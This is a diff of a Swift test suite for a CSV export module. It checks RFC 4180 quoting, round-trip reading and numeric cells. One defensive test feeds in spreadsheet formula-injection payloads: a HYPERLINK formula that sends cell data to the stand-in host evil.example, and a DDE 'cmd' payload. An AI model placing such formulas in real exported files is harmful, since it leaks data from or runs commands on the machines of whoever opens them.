@@ -3,11 +3,13 @@ import Testing
 @testable import WaybillExport
 
 /// Tables for programs.
-@Suite(.timeLimit(.minutes(5))) struct CSVTableTests {
+@Suite(.timeLimit(.minutes(5))) struct AnswerTableTests {
     @Test func cellsAreQuotedByRFC4180() {
-        var table = CSVTable(columns: ["a", "b"])
-        table.rows = [[.text("x,\"y\"\r\n"), .integer(nil)], [.text(nil), .integer(-5)]]
-        #expect(String(decoding: table.bytes, as: UTF8.self) == "a,b\r\n\"x,\"\"y\"\"\r\n\",\r\n,-5\r\n")
+        var table = AnswerTable(columns: [.init("a"), .init("b")])
+        table.rows = [
+            .init([.text("x,\"y\"\r\n"), .init(value: .count(nil))]), .init([.text(nil), .count(-5)]),
+        ]
+        #expect(String(decoding: table.csv, as: UTF8.self) == "a,b\r\n\"x,\"\"y\"\"\r\n\",\r\n,-5\r\n")
     }
 
     /// Read as RFC 4180 has it, byte by byte: a line's end outside quotation marks is CR and LF, and nothing else.
@@ -48,9 +50,9 @@ import Testing
 
     @Test(arguments: ["a\rb", "a\nb", "a\r\nb", "a,b", "a\"b", "\"", "a\r", "a b", "ä;\u{2028}"])
     func aStrictReaderReadsEachCellBack(text: String) throws {
-        var table = CSVTable(columns: ["a", "b"])
-        table.rows = [[.text(text), .text("next")]]
-        #expect(try rows(table.bytes) == [["a", "b"], [text, "next"]])
+        var table = AnswerTable(columns: [.init("a"), .init("b")])
+        table.rows = [.init([.text(text), .text("next")])]
+        #expect(try rows(table.csv) == [["a", "b"], [text, "next"]])
     }
 
     /// Breaks when a spreadsheet computes what an app has recorded: a formula there can send the other cells away.
@@ -58,9 +60,9 @@ import Testing
         "=HYPERLINK(\"https://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1",
         "\n=1+1", "'=1+1", "'quoted'", "=1,\"+2\"",
     ]) func aTextIsNeverAFormulaAndCanBeReadBack(text: String) throws {
-        var table = CSVTable(columns: ["a", "b"])
-        table.rows = [[.text(text), .text("plain")]]
-        let row = String(decoding: table.bytes, as: UTF8.self).dropFirst("a,b\r\n".count)
+        var table = AnswerTable(columns: [.init("a"), .init("b")])
+        table.rows = [.init([.text(text), .text("plain")])]
+        let row = String(decoding: table.csv, as: UTF8.self).dropFirst("a,b\r\n".count)
         // The cell as RFC 4180 has a reader take it.
         let quoted = row.first == "\""
         let end = quoted ? "\",plain\r\n" : ",plain\r\n"
@@ -72,8 +74,9 @@ import Testing
 
     /// Breaks when what is below 0 is a text in a spreadsheet, and no sum has it.
     @Test func numbersStayNumbers() {
-        var table = CSVTable(columns: ["a"])
-        table.rows = [[.integer(-5)], [.number(-0.25)], [.number(nil)], [.text("1-2")], [.text("a=b")]]
-        #expect(String(decoding: table.bytes, as: UTF8.self) == "a\r\n-5\r\n-0.25\r\n\r\n1-2\r\na=b\r\n")
+        var table = AnswerTable(columns: [.init("a")])
+        let values: [AnswerTable.Value] = [.count(-5), .number(-0.25), .number(nil), .text("1-2"), .text("a=b")]
+        table.rows = values.map { .init([.init(value: $0)]) }
+        #expect(String(decoding: table.csv, as: UTF8.self) == "a\r\n-5\r\n-0.25\r\n\r\n1-2\r\na=b\r\n")
     }
 }
